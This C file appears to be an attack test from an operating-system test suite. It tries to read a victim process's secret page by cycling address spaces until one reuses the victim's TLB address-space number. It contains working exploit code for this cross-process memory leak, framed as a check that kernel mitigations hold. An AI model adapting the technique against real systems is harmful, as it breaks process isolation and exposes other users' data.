/*
 * Another process's translations.  The TLB tells address spaces apart by a number, and there are fewer numbers
 * than processes.  The attacker makes address spaces until one has the victim's number, lets the victim run
 * right before it on the same CPU, and reads a page of its own: the TLB still leads to the victim's.
 */
#define _GNU_SOURCE
#include "user/attack/attack.h"

#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "machine.h"
#include "user/cpu.h"

#define PAGE   4096
#define SPACES 300 /* with numbers of 8 bits, two an address space, each comes twice */
#define NOT_MINE 3 /* how a process ends that did not get the victim's number */

/* At one address in every process, for all are forks of one; a page each. */
uint8_t attack_page_secret[PAGE] __attribute__((aligned(PAGE)));
uint8_t attack_page_loot[64] __attribute__((aligned(PAGE)));

/* From the loop on it touches that page and no other: the TLB holds no stack of its own. */
static __attribute__((noinline, noreturn)) void
victim(int ready)
{
	pid_t parent = getppid();

	if (getrandom(attack_page_secret, sizeof(attack_page_loot), 0) < 0 || write(ready, "", 1) != 1)
		_exit(1);
	while (t_call(SYS_getppid, 0, 0) == parent) {
		(void)*(volatile uint8_t *)attack_page_secret;
		t_call(SYS_sched_yield, 0, 0);
	}
	_exit(0);
}

/*
 * A new address space.  In it, true: the secret is there.  In the old one, false, when the new one has ended
 * without it.  No stack is used before others have run, whose number may be the new one's.
 */
static __attribute__((noinline)) bool
try_space(void)
{
	long child = t_call3(SYS_clone, SIGCHLD, 0, 0);
	int status;

	if (child == 0) {
		attack_page_loot[0] = 0; /* a fault later would change tables, and with them what the TLB holds */
		t_call(SYS_sched_yield, 0, 0);
		if (*(volatile uint64_t *)attack_page_secret == 0)
			t_call(SYS_exit_group, NOT_MINE, 0);
		memcpy(attack_page_loot, attack_page_secret, sizeof(attack_page_loot));
		return true;
	}
	if (child < 0 || waitpid((pid_t)child, &status, 0) != child)
		give_up("clone, waitpid");
	if (!WIFEXITED(status) || WEXITSTATUS(status) != NOT_MINE)
		exit(WIFEXITED(status) ? WEXITSTATUS(status) : 2);
	return false;
}

static void
run(void)
{
	int ready[2];
	pid_t child;
	char c;

	if (pin(0) < 0 || pipe(ready) < 0)
		give_up("sched_setaffinity, pipe");

	step("legal: a process reads its own page");
	if (attack_page_secret[0] != 0)
		give_up("it is not empty");
	child = fork();
	if (child < 0)
		give_up("fork");
	if (child == 0)
		victim(ready[1]);
	if (read(ready[0], &c, 1) != 1)
		give_up("the victim does not begin");

	step("illegal: address spaces are made until one has the victim's number");
	for (int i = 0; i < SPACES; i++) {
		if (try_space())
			return;
	}
	step("none reads what is not its own");
	kill(child, SIGKILL);
	exit(1);
}

ATTACK(asid) = {
	.name = "asid",
	.what = "a process that gets another's address-space number reads its memory",
	.needs_off_aarch64 = "asid,kpti",
	.run = run,
};
